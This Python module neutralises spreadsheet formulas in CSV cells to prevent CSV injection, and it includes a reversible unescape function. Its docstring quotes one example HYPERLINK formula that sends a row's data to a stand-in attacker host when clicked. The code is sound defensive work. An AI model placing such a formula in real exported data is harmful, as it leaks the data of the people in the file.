"""Spreadsheet formula neutralisation for CSV cells (CSV injection, OWASP's rule).

Anyone can type a name into the public subscribe form. A cell starting with `=`, `+`, `-`, `@`, TAB
or CR is run as a formula when the file is opened in Excel, LibreOffice or Google Sheets
(`=HYPERLINK("http://evil.example/?d="&A2,"x")` sends the row away on a click). `neutralise` writes
such a cell with a leading `'`, which spreadsheets take as "this is text" and do not display;
`unformula` removes exactly that one `'` when the file is imported again, so export → import →
export keeps the same bytes. A cell that already starts with quotes followed by one of those
characters gets one more, which keeps the removal exact.
"""

from __future__ import annotations

import re

FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
_UNSAFE_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def neutralise(cell: str) -> str:
    """`cell` as a spreadsheet shows it without evaluating it.

    Control characters other than TAB, CR and LF (an ESC starting a terminal escape sequence,
    stored before imports refused them) become U+FFFD: they cannot be imported back anyway."""
    cell = _UNSAFE_CONTROL.sub("\ufffd", cell)
    return "'" + cell if FORMULA_START.match(cell) else cell


def unformula(cell: str) -> str:
    """Undo `neutralise`'s prefix: one leading `'` before a formula character is dropped."""
    return cell[1:] if cell.startswith("'") and FORMULA_START.match(cell, 1) else cell
